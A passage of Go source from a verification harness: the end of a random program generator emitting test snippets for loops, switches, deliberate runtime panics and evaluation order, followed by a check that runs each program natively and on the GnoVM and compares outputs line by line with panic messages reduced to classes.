		return "label:goto-closure"
	default: // while-style loops, loop with only condition, infinite loop with break, post statement effects
		g.P("i, steps := %d, 0", 1+g.n(200))
		g.P("for i != 1 {")
		g.P("\tif i%%2 == 0 {")
		g.P("\t\ti /= 2")
		g.P("\t} else {")
		g.P("\t\ti = 3*i + 1")
		g.P("\t}")
		g.P("\tsteps++")
		g.P("}")
		g.P("j := 0")
		g.P("for {")
		g.P("\tj += %d", 1+g.n(4))
		g.P("\tif j > %d {", 5+g.n(20))
		g.P("\t\tbreak")
		g.P("\t}")
		g.P("}")
		g.P("k := 0")
		g.P("for x, y := 0, %d; x < y; x, y = x+1, y-1 {", 4+g.n(10))
		g.P("\tk += x * y")
		g.P("}")
		g.P("println(\"loops \" + itoa(int64(steps)) + \" \" + itoa(int64(j)) + \" \" + itoa(int64(k)))")
		return "label:loop-forms"
	}
}

func genSwitch(g *G) string {
	switch g.n(6) {
	case 0, 1: // fallthrough chains with default in any position
		n := 4 + g.n(3)
		defPos := g.n(n + 1)
		var ft []bool
		for i := 0; i <= n; i++ {
			ft = append(ft, g.pct(45))
		}
		g.P("for v := 0; v <= %d; v++ {", n+1)
		g.P("\tout := \"\"")
		g.P("\tswitch v {")
		clause := 0
		for i := 0; i <= n; i++ {
			if i == defPos {
				g.P("\tdefault:")
				g.P("\t\tout += \"D\"")
			} else {
				g.P("\tcase %d:", clause)
				g.P("\t\tout += \"%d\"", clause)
				clause++
			}
			if ft[i] && i != n {
				g.P("\t\tfallthrough")
			}
		}
		g.P("\t}")
		g.P("\tprintln(\"  v\" + itoa(int64(v)) + \" \" + out)")
		g.P("}")
		return "switch:fallthrough"
	case 2: // tagless switch, first true clause wins, init statement
		g.P("for _, v := range []int{%s} {", g.intList(5, -5, 15))
		g.P("\tswitch w := v * 2; {")
		g.P("\tcase w < 0:")
		g.P("\t\tprintln(\"  neg\")")
		g.P("\tcase w < %d:", 2+g.n(10))
		g.P("\t\tprintln(\"  small\")")
		g.P("\t\tfallthrough")
		g.P("\tcase w == 9999:")
		g.P("\t\tprintln(\"  (fell)\")")
		g.P("\tcase w%%%d == 0, w > 25:", 2+g.n(3))
		g.P("\t\tprintln(\"  multi \" + itoa(int64(w)))")
		g.P("\tdefault:")
		g.P("\t\tprintln(\"  default \" + itoa(int64(w)))")
		g.P("\t}")
		g.P("}")
		return "switch:tagless-init"
	case 3: // case expressions are evaluated in order, only until a match
		g.D("func %s(tag string, v int) int {\n\tprintln(\"    eval \" + tag)\n\treturn v\n}", g.T("ev"))
		g.P("for _, v := range []int{%s} {", g.intList(3, 0, 4))
		g.P("\tswitch %s(\"tag\", v) {", g.T("ev"))
		g.P("\tcase %s(\"a\", 1), %s(\"b\", 2):", g.T("ev"), g.T("ev"))
		g.P("\t\tprintln(\"  ab\")")
		g.P("\tcase %s(\"c\", 3):", g.T("ev"))
		g.P("\t\tprintln(\"  c\")")
		g.P("\tdefault:")
		g.P("\t\tprintln(\"  none\")")
		g.P("\t}")
		g.P("}")
		return "switch:case-eval-order"
	case 4: // switch on types of different kinds: strings, runes, typed constants
		g.P("for _, r := range %s {", q(g.str()+"a0 Z"))
		g.P("\tswitch {")
		g.P("\tcase r >= '0' && r <= '9':")
		g.P("\t\tprintln(\"  digit\")")
		g.P("\tcase r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z':")
		g.P("\t\tprintln(\"  letter\")")
		g.P("\tcase r == ' ':")
		g.P("\t\tprintln(\"  space\")")
		g.P("\tcase r == 0xfffd:")
		g.P("\t\tprintln(\"  replacement\")")
		g.P("\tdefault:")
		g.P("\t\tprintln(\"  other \" + itoa(int64(r)))")
		g.P("\t}")
		g.P("}")
		return "switch:rune-classes"
	default: // switch with no match and no default; empty switch; switch true/false tags
		g.P("x := %d", g.n(5))
		g.P("switch x {")
		g.P("case 100:")
		g.P("\tprintln(\"no\")")
		g.P("}")
		g.P("switch {")
		g.P("}")
		g.P("switch x > 2 {")
		g.P("case true:")
		g.P("\tprintln(\"big\")")
		g.P("case false:")
		g.P("\tprintln(\"small\")")
		g.P("}")
		g.P("switch y := any(x).(type) {")
		g.P("case int:")
		g.P("\tprintln(\"int \" + itoa(int64(y)))")
		g.P("}")
		return "switch:misc"
	}
}

// genPanics: one deliberate run-time panic of a given class after some output,
// either escaping to the top level or recovered midway.
func genPanics(g *G) string {
	type pc struct {
		class string
		setup []string
		stmt  string
	}
	S := g.T("S")
	I := g.T("I")
	cases := []pc{
		{"div-by-zero", []string{"a, z := " + fmt.Sprint(1+g.n(50)) + ", 0"}, "println(itoa(int64(a / z)))"},
		{"mod-by-zero", []string{"a, z := uint8(" + fmt.Sprint(1+g.n(50)) + "), uint8(0)"}, "println(utoa(uint64(a % z)))"},
		{"div-by-zero-int64", []string{"var a, z int64 = -9223372036854775808, 0"}, "a /= z"},
		{"index-slice", []string{"s := []int{1, 2, 3}", "i := " + fmt.Sprint(3+g.n(3))}, "println(itoa(int64(s[i])))"},
		{"index-slice-neg", []string{"s := []int{1, 2, 3}", "i := -1"}, "s[i] = 0"},
		{"index-array", []string{"var s [4]int", "i := " + fmt.Sprint(4+g.n(3))}, "s[i]++"},
		{"index-string", []string{"s := \"abc\"", "i := " + fmt.Sprint(3+g.n(3))}, "println(utoa(uint64(s[i])))"},
		{"index-nil-slice", []string{"var s []string", "i := 0"}, "println(s[i])"},
		{"nil-deref-field", []string{"var p *" + S}, "println(itoa(int64(p.n)))"},
		{"nil-deref-star", []string{"var p *int"}, "*p = 1"},
		{"nil-deref-array-ptr", []string{"var p *[3]int", "i := 1"}, "println(itoa(int64(p[i])))"},
		{"nil-map-write", []string{"var m map[string]int"}, "m[\"k\"] = 1"},
		{"nil-map-write-inc", []string{"var m map[int]int"}, "m[1]++"},
		{"type-assertion", []string{"var v any = \"s\""}, "println(itoa(int64(v.(int))))"},
		{"type-assertion-nil", []string{"var v any"}, "println(v.(string))"},
		{"type-assertion-iface", []string{"var v any = 1"}, "println(itoa(int64(v.(" + I + ").M())))"},
		{"negative-shift", []string{"x, s := 1, -" + fmt.Sprint(1+g.n(5))}, "println(itoa(int64(x << s)))"},
		{"negative-shift-right", []string{"var x uint8 = 200", "var s int8 = -1"}, "x >>= s"},
		{"slice-bounds-high", []string{"s := []int{1, 2, 3}", "j := " + fmt.Sprint(4+g.n(3))}, "println(ints(s[:j]))"},
		{"slice-bounds-order", []string{"s := []int{1, 2, 3}", "i, j := 2, 1"}, "println(ints(s[i:j]))"},
		{"slice-bounds-string", []string{"s := \"hello\"", "i := " + fmt.Sprint(6+g.n(3))}, "println(s[i:])"},
		{"slice-bounds-array", []string{"var a [3]int", "j := 4"}, "println(ints(a[:j]))"},
		{"nil-func-call", []string{"var f func() int"}, "println(itoa(int64(f())))"},
		{"explicit-string", nil, "panic(\"boom " + fmt.Sprint(g.n(100)) + "\")"},
		{"explicit-error", nil, "panic(vErr{" + fmt.Sprint(g.n(100)) + "})"},
		{"explicit-int", nil, "panic(" + fmt.Sprint(g.n(100)) + ")"},
	}
	c := pick(g, cases)
	g.D("type %s struct{ n int }", S)
	g.D("type %s interface{ M() int }", I)
	g.P("println(\"start\")")
	for _, s := range c.setup {
		g.P("%s", s)
	}
	depth := g.n(3)
	mode := g.n(3)
	// nest the faulting statement inside `depth` calls that each defer a line
	open := ""
	closeS := ""
	for d := 0; d < depth; d++ {
		open += fmt.Sprintf("func() { defer println(\"  unwind %d\"); ", d)
		closeS += " }()"
	}
	stmt := open + c.stmt + closeS
	switch mode {
	case 0: // escapes to the top level
		g.P("%s", stmt)
		g.P("println(\"not reached\")")
	case 1: // recovered, execution continues
		g.P("try(func() { %s; println(\"not reached\") })", stmt)
		g.P("println(\"continued\")")
	default: // recovered by a deferred function that itself prints, then a second panic of another class escapes
		g.P("func() {")
		g.P("\tdefer func() {")
		g.P("\t\tr := recover()")
		g.P("\t\tprintln(\"  caught \" + describe(r))")
		g.P("\t}()")
		g.P("\t%s", stmt)
		g.P("}()")
		g.P("println(\"continued\")")
		if g.coin() {
			g.P("var zz []int")
			g.P("zi := %d", g.n(3))
			g.P("zz[zi] = 1")
		}
	}
	return "panic:" + c.class
}

// genEvalOrder: short-circuit evaluation, tuple assignment, operand order with side effects.
func genEvalOrder(g *G) string {
	switch g.n(4) {
	case 0:
		g.D("func %s(tag string, v bool) bool {\n\tprintln(\"    \" + tag)\n\treturn v\n}", g.T("t"))
		t := g.T("t")
		bs := func() string { return pick(g, []string{"true", "false"}) }
		g.P("r1 := %s(\"a\", %s) && %s(\"b\", %s) || %s(\"c\", %s)", t, bs(), t, bs(), t, bs())
		g.P("r2 := %s(\"d\", %s) || %s(\"e\", %s) && !%s(\"f\", %s)", t, bs(), t, bs(), t, bs())
		g.P("z := %d", g.n(2))
		g.P("r3 := z != 0 && 10/z > 1")
		g.P("println(\"sc \" + btoa(r1) + btoa(r2) + btoa(r3))")
		return "evalorder:short-circuit"
	case 1: // tuple assignment: operands and index expressions are evaluated before any assignment
		g.P("a := []int{%s}", g.intList(4, 0, 3))
		g.P("i := %d", g.n(3))
		g.P("i, a[i] = a[i], i+10")
		g.P("x, y := 1, 2")
		g.P("x, y = y, x+y")
		g.P("a[0], a[1], a[2] = a[2], a[0], a[1]")
		g.P("println(\"tuple \" + ints(a) + itoa(int64(i)) + itoa(int64(x)) + itoa(int64(y)))")
		g.P("m := map[string]int{}")
		g.P("k := \"a\"")
		g.P("k, m[k] = \"b\", 5")
		g.P("println(\"tuplemap \" + k + itoa(int64(m[\"a\"])) + itoa(int64(m[\"b\"])))")
		return "evalorder:tuple-assign"
	case 2: // function calls in an expression happen left to right
		g.D("func %s(tag string, v int) int {\n\tprintln(\"    call \" + tag)\n\treturn v\n}", g.T("c"))
		c := g.T("c")
		g.P("r := %s(\"x\", %d) %s %s(\"y\", %d) %s %s(\"z\", %d)", c, g.n(9), pick(g, []string{"+", "-", "*"}), c, 1+g.n(9), pick(g, []string{"+", "-", "*"}), c, g.n(9))
		g.P("s := []int{%s(\"e0\", 1), %s(\"e1\", 2)}", c, c)
		g.P("m := map[int]int{%s(\"k\", 1): %s(\"v\", 2)}", c, c)
		g.P("println(\"order \" + itoa(int64(r)) + ints(s) + itoa(int64(m[1])))")
		return "evalorder:calls-left-to-right"
	default: // op-assign evaluates the left operand once
		g.D("var %s int", g.T("cnt"))
		g.D("func %s() int {\n\t%s++\n\treturn %s %% 3\n}", g.T("idx"), g.T("cnt"), g.T("cnt"))
		g.P("%s = 0", g.T("cnt"))
		g.P("a := []int{10, 20, 30}")
		g.P("a[%s()] += 5", g.T("idx"))
		g.P("a[%s()]++", g.T("idx"))
		g.P("a[%s()] <<= 1", g.T("idx"))
		g.P("println(\"once \" + ints(a) + itoa(int64(%s)))", g.T("cnt"))
		return "evalorder:op-assign-once"
	}
}

func genFuncs(g *G) string {
	f := g.T("f")
	if g.pct(6) { // a variadic parameter with no arguments is a nil slice (Go spec, "Passing arguments to ... parameters")
		g.D("func %s(vs ...int) string {\n\treturn btoa(vs == nil) + itoa(int64(len(vs)))\n}", f)
		g.P("println(\"empty-variadic \" + %s() + \" \" + %s(1) + \" \" + %s([]int{}...) + \" \" + %s([]int(nil)...))", f, f, f, f)
		return "func:variadic-empty-is-nil"
	}
	switch g.n(5) {
	case 0: // multiple and named results, bare return, blank
		g.D("func %s(a, b int) (q, r int, ok bool) {\n\tif b == 0 {\n\t\treturn\n\t}\n\tq, r = a/b, a%%b\n\tok = true\n\treturn\n}", f)
		g.P("q, r, ok := %s(%d, %d)", f, g.n(100)-50, g.n(7)-3)
		g.P("_, r2, _ := %s(%d, %d)", f, g.n(100)-50, 1+g.n(7))
		g.P("println(\"multi \" + itoa(int64(q)) + \" \" + itoa(int64(r)) + btoa(ok) + itoa(int64(r2)))")
		return "func:multi-result"
	case 1: // mutual recursion and deep-ish recursion
		g.D("func %s(n int) bool {\n\tif n == 0 {\n\t\treturn true\n\t}\n\treturn %s(n - 1)\n}", g.T("even"), g.T("odd"))
		g.D("func %s(n int) bool {\n\tif n == 0 {\n\t\treturn false\n\t}\n\treturn %s(n - 1)\n}", g.T("odd"), g.T("even"))
		g.D("func %s(m, n int) int {\n\tif m == 0 {\n\t\treturn n + 1\n\t}\n\tif n == 0 {\n\t\treturn %s(m-1, 1)\n\t}\n\treturn %s(m-1, %s(m, n-1))\n}", g.T("ack"), g.T("ack"), g.T("ack"), g.T("ack"))
		g.P("println(\"rec \" + btoa(%s(%d)) + itoa(int64(%s(2, %d))))", g.T("even"), g.n(40), g.T("ack"), g.n(3))
		return "func:recursion"
	case 2: // function values, passing funcs, funcs in maps/structs, comparison with nil
		g.D("func %s(f func(int) int, n int) int {\n\tfor i := 0; i < 3; i++ {\n\t\tn = f(n)\n\t}\n\treturn n\n}", g.T("apply"))
		g.P("ops := map[string]func(int) int{")
		g.P("\t\"inc\": func(x int) int { return x + 1 },")
		g.P("\t\"dbl\": func(x int) int { return x * 2 },")
		g.P("}")
		g.P("var nf func(int) int")
		g.P("println(\"fn \" + itoa(int64(%s(ops[\"inc\"], %d))) + \" \" + itoa(int64(%s(ops[\"dbl\"], %d))) + btoa(nf == nil) + btoa(ops[\"zz\"] == nil))", g.T("apply"), g.n(9), g.T("apply"), g.n(9))
		return "func:values"
	case 3: // arguments are passed by value; slices/maps/pointers share
		g.D("func %s(a [2]int, s []int, m map[int]int, p *int, n int, st struct{ v int }) {\n\ta[0], s[0], m[0], *p, n, st.v = 9, 9, 9, 9, 9, 9\n\ts = append(s, 1)\n\t_, _, _ = a, n, st\n\t_ = s\n}", f)
		g.P("a, s, m, x, n := [2]int{}, []int{0, 0}, map[int]int{}, 0, 0")
		g.P("st := struct{ v int }{}")
		g.P("%s(a, s, m, &x, n, st)", f)
		g.P("println(\"byval \" + itoa(int64(a[0])) + ints(s) + itoa(int64(m[0])) + itoa(int64(x)) + itoa(int64(n)) + itoa(int64(st.v)))")
		return "func:by-value"
	default: // variadic with mixed forms and any
		g.D("func %s(prefix string, vs ...any) string {\n\tout := prefix + itoa(int64(len(vs)))\n\tfor _, v := range vs {\n\t\tout += \",\" + describe(v)\n\t}\n\treturn out\n}", f)
		g.P("println(\"var \" + %s(\"a\") + \" \" + %s(\"b\", 1, \"x\", nil, true) + \" \" + %s(\"c\", []any{1, 2}...) + \" \" + %s(\"d\", []any{}) )", f, f, f, f)
		return "func:variadic-any"
	}
}
