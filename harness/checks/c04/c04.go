// Package c04: Gno programs compute what the same Go program computes.
//
// Oracle: the Go toolchain itself. Generated programs (package goprog) in the
// Go∩Gno subset are emitted as functions of one Go file per batch, built once
// with the 1.25.9 toolchain and run natively; the same function text runs on
// the GnoVM in-process (one `package main` per program, gas-capped). Outputs
// must be equal line by line; recovered/escaping panics are compared by CLASS
// (messages differ between Go and Gno by design).
package c04

import (
	"bytes"
	"context"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"verifharness/checks/c04/gnorun"
	"verifharness/checks/c04/goprog"
	"verifharness/internal/vf"
)

func init() {
	vf.Register(&vf.Check{
		ID:    "C04",
		Level: "exploration",
		Rule: "cases = snippets of generated programs (3–6 snippets per program; program i is a function of (seed, i); the first snippet's family is i mod #families, the rest weighted random) drawn from 24 families: " +
			"integer expressions at every width with operands biased to 0/±1/min/max, wrap-around identities, shifts (counts ≥ width, negative run-time counts, untyped-constant operands), integer/float conversions, float arithmetic, typed/untyped constant folding vs run-time twins, " +
			"strings/runes/bytes, slices (append aliasing with known capacity, copy, 3-index, bounds, nil), arrays, structs, maps (sorted-key consumption), pointers, closures (per-iteration loop variables), defer/panic/recover, methods, interfaces and type switches, labels/goto, switch/fallthrough, deliberate run-time panics of every class, evaluation order, functions, scoping. " +
			"Each program runs natively (Go 1.25.9, one build per batch) and on the GnoVM; outputs are compared line by line with panic messages reduced to a class. " +
			"evaluation = one snippet executed on both sides; non-trivial = it printed at least one data line or panicked under Go; distinct by snippet source text",
		Run: run,
	})
}

// ---- panic-message classification ----

type rule struct {
	re    *regexp.Regexp
	class string
}

func rules(spec ...string) []rule {
	var out []rule
	for i := 0; i < len(spec); i += 2 {
		out = append(out, rule{regexp.MustCompile(spec[i]), spec[i+1]})
	}
	return out
}

var goRules = rules(
	`^runtime error: integer divide by zero`, "div-by-zero",
	`^runtime error: index out of range`, "index-out-of-range",
	`^runtime error: slice bounds out of range`, "slice-bounds",
	`^runtime error: invalid memory address or nil pointer dereference`, "nil-deref",
	`^interface conversion: `, "type-assertion",
	`^runtime error: negative shift amount`, "negative-shift",
	`^assignment to entry in nil map`, "nil-map-write",
	`^vErr\d+$`, "same-text",
	`^S-error$`, "same-text",
)

var gnoRules = rules(
	`^runtime error: division by zero`, "div-by-zero",
	`^runtime error: index out of range`, "index-out-of-range",
	`^runtime error: nil slice index \(out of bounds\)`, "index-out-of-range",
	`^runtime error: slice index out of bounds`, "index-out-of-range",
	`^runtime error: invalid slice index -\d+ \(index must be non-negative\)`, "negative-index",
	`^runtime error: invalid slice index`, "slice-bounds",
	`^runtime error: slice bounds out of range`, "slice-bounds",
	`^runtime error: nil pointer dereference`, "nil-deref",
	`^runtime error: invalid memory address or nil pointer dereference`, "nil-deref",
	`^runtime error: call of nil function`, "nil-deref",
	`^runtime error: method selector on nil interface`, "nil-deref",
	`^runtime error: defer called a nil function`, "nil-deref",
	`^value method .* called using nil \*\S+ pointer`, "nil-deref",
	` is not of type `, "type-assertion",
	` doesn't implement `, "type-assertion",
	`^interface conversion: `, "type-assertion",
	`^runtime error: negative shift amount`, "negative-shift",
	`^runtime error: uninitialized map index`, "nil-map-write",
	`^assignment to entry in nil map`, "nil-map-write",
	`^vErr\d+$`, "same-text",
	`^S-error$`, "same-text",
)

var errRe = regexp.MustCompile(`ERR<<<(.*?)>>>`)

func classify(rs []rule, msg string) string {
	for _, r := range rs {
		if r.re.MatchString(msg) {
			if r.class == "same-text" {
				return "text:" + msg
			}
			return r.class
		}
	}
	return "unclassified:" + msg
}

// normalize replaces every ERR<<<message>>> by ERR<class>.
func normalize(rs []rule, out string, classes map[string]int) []string {
	out = errRe.ReplaceAllStringFunc(out, func(m string) string {
		cl := classify(rs, errRe.FindStringSubmatch(m)[1])
		if classes != nil {
			classes[cl]++
		}
		return "ERR<" + cl + ">"
	})
	return strings.Split(strings.TrimRight(out, "\n"), "\n")
}

// ---- Go side ----

type goSide struct {
	c     *vf.Ctx
	goBin string
}

func findGo(c *vf.Ctx) (string, error) {
	cands := []string{}
	if p, err := exec.LookPath("go"); err == nil {
		cands = append(cands, p)
	}
	if r := os.Getenv("VERIF_GOROOT"); r != "" {
		cands = append(cands, filepath.Join(r, "bin", "go"))
	}
	m, _ := filepath.Glob("/root/go/pkg/mod/golang.org/toolchain@v0.0.1-go1.25.9.linux-amd64/bin/go")
	cands = append(cands, m...)
	for _, p := range cands {
		cmd := exec.Command(p, "version")
		cmd.Env = append(os.Environ(), "GOTOOLCHAIN=local")
		b, err := cmd.Output()
		if err == nil && strings.Contains(string(b), "go1.25") {
			return p, nil
		}
	}
	return "", fmt.Errorf("no go1.25 toolchain found (candidates %v)", cands)
}

var goErrRe = regexp.MustCompile(`(?m)^\./main\.go:(\d+):\d+: (.*)$`)

// buildAndRun builds progs as one Go file in dir and runs it. Programs the Go
// compiler rejects (a generator defect, not a property violation) are dropped
// and reported in rejected.
func (gs *goSide) buildAndRun(dir string, progs []*goprog.Program) (outputs map[int][]string, classes map[string]int, rejected map[int]string, err error) {
	rejected = map[int]string{}
	os.MkdirAll(dir, 0o755)
	if err = os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module c04batch\n\ngo 1.25\n"), 0o644); err != nil {
		return
	}
	live := progs
	env := append(os.Environ(), "GOTOOLCHAIN=local", "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOWORK=off")
	for round := 0; ; round++ {
		src, lines := goprog.GoFile(live)
		if err = os.WriteFile(filepath.Join(dir, "main.go"), []byte(src), 0o644); err != nil {
			return
		}
		cmd := exec.Command(gs.goBin, "build", "-gcflags=-e", "-o", "prog", ".")
		cmd.Dir = dir
		cmd.Env = env
		var eb bytes.Buffer
		cmd.Stderr = &eb
		cmd.Stdout = &eb
		if berr := cmd.Run(); berr == nil {
			break
		} else if round >= 4 {
			err = fmt.Errorf("go build keeps failing: %s", truncate(eb.String(), 1500))
			return
		}
		bad := map[int]string{}
		for _, m := range goErrRe.FindAllStringSubmatch(eb.String(), -1) {
			ln, _ := strconv.Atoi(m[1])
			for i, r := range lines {
				if ln >= r[0] && ln <= r[1] {
					if _, dup := bad[i]; !dup {
						bad[i] = m[2] + " | " + lineOf(src, ln)
					}
				}
			}
		}
		if len(bad) == 0 {
			err = fmt.Errorf("go build failed outside generated programs: %s", truncate(eb.String(), 1500))
			return
		}
		var keep []*goprog.Program
		for i, p := range live {
			if why, isBad := bad[i]; isBad {
				rejected[p.ID] = why
			} else {
				keep = append(keep, p)
			}
		}
		live = keep
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, filepath.Join(dir, "prog"))
	cmd.Dir = dir
	var ob bytes.Buffer
	cmd.Stderr = &ob // println writes to stderr
	cmd.Stdout = &ob
	rerr := cmd.Run()
	if ctx.Err() != nil {
		err = fmt.Errorf("native run timed out")
		return
	}
	outputs = map[int][]string{}
	classes = map[string]int{}
	all := ob.String()
	for _, p := range live {
		begin := fmt.Sprintf("#BEGIN %d\n", p.ID)
		end := fmt.Sprintf("#END %d\n", p.ID)
		i := strings.Index(all, begin)
		j := strings.Index(all, end)
		if i < 0 || j < i {
			err = fmt.Errorf("native run: output of program %d incomplete (run error: %v): %s", p.ID, rerr, truncate(tail(all, 1500), 1500))
			return
		}
		outputs[p.ID] = normalize(goRules, all[i+len(begin):j], classes)
	}
	return
}

func lineOf(src string, n int) string {
	ls := strings.Split(src, "\n")
	if n-1 < len(ls) && n >= 1 {
		return strings.TrimSpace(ls[n-1])
	}
	return ""
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}

func tail(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[len(s)-n:]
}

// ---- comparison ----

var markRe = regexp.MustCompile(`^@(\d+) (.*)$`)

type diff struct {
	snippet  int
	tag      string
	line     int
	goLine   string
	gnoLine  string
	category string
}

// compare returns nil when equal.
func compare(goOut, gnoOut []string) *diff {
	n := len(goOut)
	if len(gnoOut) > n {
		n = len(gnoOut)
	}
	cur, tag := -1, ""
	for i := 0; i < n; i++ {
		var a, b string
		if i < len(goOut) {
			a = goOut[i]
		} else {
			a = "<no more output>"
		}
		if i < len(gnoOut) {
			b = gnoOut[i]
		} else {
			b = "<no more output>"
		}
		if m := markRe.FindStringSubmatch(a); m != nil && a == b {
			cur, _ = strconv.Atoi(m[1])
			tag = m[2]
		}
		if a != b && strings.Contains(b, "ERR<negative-index>") {
			// Gno words every negative index (index expression or slice expression, on strings too)
			// as "invalid slice index -N (index must be non-negative)": accepted for either bounds class.
			if a == strings.ReplaceAll(b, "ERR<negative-index>", "ERR<index-out-of-range>") || a == strings.ReplaceAll(b, "ERR<negative-index>", "ERR<slice-bounds>") {
				continue
			}
		}
		if a != b {
			cat := "output"
			if strings.Contains(a, "ERR<") || strings.Contains(b, "ERR<") || strings.HasPrefix(a, "#PANIC") || strings.HasPrefix(b, "#PANIC") || strings.Contains(a, "recovered") || strings.Contains(b, "recovered") {
				cat = "panic"
			}
			return &diff{snippet: cur, tag: tag, line: i, goLine: a, gnoLine: b, category: cat}
		}
	}
	return nil
}

var gnoLineRe = regexp.MustCompile(`\.gno:(\d+):`)

// snippetAtLine finds the snippet whose text contains line ln of the Gno file.
func snippetAtLine(src string, ln int) (int, bool) {
	ls := strings.Split(src, "\n")
	re := regexp.MustCompile(`^// program \d+ snippet (\d+): `)
	for i := ln - 1; i >= 0 && i < len(ls); i-- {
		if m := re.FindStringSubmatch(ls[i]); m != nil {
			k, _ := strconv.Atoi(m[1])
			return k, true
		}
		if strings.HasPrefix(ls[i], "func prog") {
			return 0, false
		}
	}
	return 0, false
}

// ---- driver ----

const gasCap = 2_000_000_000

type gnoPool struct {
	ch chan *gnorun.Runner
}

func newPool(n int) *gnoPool {
	p := &gnoPool{ch: make(chan *gnorun.Runner, n)}
	for i := 0; i < n; i++ {
		p.ch <- nil
	}
	return p
}

func (p *gnoPool) run(name, src string) gnorun.Result {
	r := <-p.ch
	if r == nil {
		var err error
		if r, err = gnorun.New("math", "strconv"); err != nil {
			p.ch <- nil
			panic(fmt.Sprintf("gnorun.New: %v", err))
		}
	}
	defer func() { p.ch <- r }()
	return r.Run(name, src, gasCap)
}

func run(c *vf.Ctx) {
	total := c.N(400, 20000)
	batchSize := c.N(100, 500)
	goBin, err := findGo(c)
	if err != nil {
		c.Inconclusive(err.Error())
		return
	}
	gs := &goSide{c: c, goBin: goBin}
	c.Set("go_toolchain", goBin)
	c.Set("families", goprog.Families())

	progs := make([]*goprog.Program, total)
	c.Parallel(total, 16, 100_000, func(i int, rng *rand.Rand) {
		progs[i] = goprog.Generate(i, rng)
	})

	// Go side, batch by batch
	nb := (total + batchSize - 1) / batchSize
	goOut := make([]map[int][]string, nb)
	var mu sync.Mutex
	goClasses := map[string]int{}
	rejected := map[int]string{}
	var batchErr []string
	// the Gno side runs concurrently with the native builds (independent until comparison)
	pool := newPool(12)
	gnoRes := make([]gnorun.Result, total)
	gnoDone := make(chan any, 1)
	go func() {
		defer func() { gnoDone <- recover() }()
		c.Parallel(total, 12, 300_000, func(i int, _ *rand.Rand) {
			gnoRes[i] = pool.run(fmt.Sprintf("prog%d.gno", progs[i].ID), progs[i].GnoFile())
		})
	}()
	c.Parallel(nb, 4, 200_000, func(b int, _ *rand.Rand) {
		lo, hi := b*batchSize, (b+1)*batchSize
		if hi > total {
			hi = total
		}
		out, cls, rej, err := gs.buildAndRun(filepath.Join(c.WorkDir, fmt.Sprintf("batch%03d", b)), progs[lo:hi])
		mu.Lock()
		defer mu.Unlock()
		if err != nil {
			batchErr = append(batchErr, fmt.Sprintf("batch %d: %v", b, err))
			return
		}
		goOut[b] = out
		for k, v := range cls {
			goClasses[k] += v
		}
		for k, v := range rej {
			rejected[k] = v
		}
		c.Count("go_batches_built", 1)
	})
	for _, e := range batchErr {
		c.Inconclusive(e)
	}
	c.Logf("go side done: %d batches, %d programs rejected by the Go compiler", nb, len(rejected))
	if len(rejected) > 0 {
		ids := make([]int, 0, len(rejected))
		for id := range rejected {
			ids = append(ids, id)
		}
		sort.Ints(ids)
		var ex []string
		for _, id := range ids[:min(len(ids), 5)] {
			ex = append(ex, fmt.Sprintf("prog %d: %s", id, rejected[id]))
		}
		c.Set("generator_rejects_examples", ex)
	}
	c.Count("generator_programs_rejected_by_go", len(rejected))

	if pv := <-gnoDone; pv != nil {
		panic(pv)
	}
	c.Logf("gno side done")

	// comparison
	gnoClasses := map[string]int{}
	type finding struct {
		key string
		p   *goprog.Program
		d   *diff
		res gnorun.Result
		goO []string
		gnO []string
	}
	var findings []finding
	famCount := map[string]int{}
	c.Parallel(total, 8, 400_000, func(i int, _ *rand.Rand) {
		p := progs[i]
		g := goOut[i/batchSize]
		if g == nil {
			return
		}
		want, ok := g[p.ID]
		if !ok {
			return // rejected by the Go compiler
		}
		src := p.GnoFile()
		res := gnoRes[i]
		c.Count("programs_compared", 1)
		if res.Kind == "out-of-gas" {
			c.Count("gno_out_of_gas", 1)
			return
		}
		cls := map[string]int{}
		gout := res.Output
		// strip the #BEGIN/#END protocol lines the same way as on the Go side
		begin, end := fmt.Sprintf("#BEGIN %d\n", p.ID), fmt.Sprintf("#END %d\n", p.ID)
		if bi := strings.Index(gout, begin); bi >= 0 {
			gout = gout[bi+len(begin):]
		}
		complete := false
		if ei := strings.Index(gout, end); ei >= 0 {
			gout = gout[:ei]
			complete = true
		}
		got := normalize(gnoRules, gout, cls)
		if res.Panicked {
			got = append(got, fmt.Sprintf("<gnovm %s: %s>", res.Kind, firstLine(res.Error)))
		} else if !complete {
			got = append(got, "<gnovm: #END missing>")
		}
		d := compare(want, got)
		// per-snippet accounting (snippets actually started under Go)
		started := map[int]bool{}
		lines := map[int]int{}
		cur := -1
		for _, l := range want {
			if m := markRe.FindStringSubmatch(l); m != nil {
				cur, _ = strconv.Atoi(m[1])
				started[cur] = true
				continue
			}
			lines[cur]++
		}
		mu.Lock()
		for k, v := range cls {
			gnoClasses[k] += v
		}
		for k := range started {
			famCount[p.Snips[k].Kind]++
		}
		mu.Unlock()
		for k := range started {
			s := p.Snips[k]
			c.Case(s.Tag+"\n"+s.Decls+s.Body, lines[k] > 0)
		}
		if strings.HasPrefix(want[len(want)-1], "#PANIC") {
			c.Count("programs_go_panicked_at_top_level", 1)
		}
		if d == nil {
			c.Count("programs_equal", 1)
			return
		}
		// locate the snippet
		if res.Kind == "preprocess" || res.Kind == "go-panic" {
			if m := gnoLineRe.FindStringSubmatch(res.Error); m != nil {
				ln, _ := strconv.Atoi(m[1])
				if k, ok := snippetAtLine(src, ln); ok && k < len(p.Snips) {
					d.snippet, d.tag = k, p.Snips[k].Tag
				}
			}
		}
		key := "mismatch:" + d.tag
		switch {
		case res.Kind == "preprocess":
			key = "gno-rejects:" + d.tag
		case res.Kind == "go-panic":
			key = "vm-crash:" + d.tag
		case d.category == "panic":
			key = "mismatch:panic:" + d.tag
		}
		if d.tag == "" {
			key += "program-level"
		}
		mu.Lock()
		findings = append(findings, finding{key: key, p: p, d: d, res: res, goO: want, gnO: got})
		mu.Unlock()
	})

	c.Logf("comparison done: %d programs compared, %d differing", c.Counter("programs_compared"), len(findings))

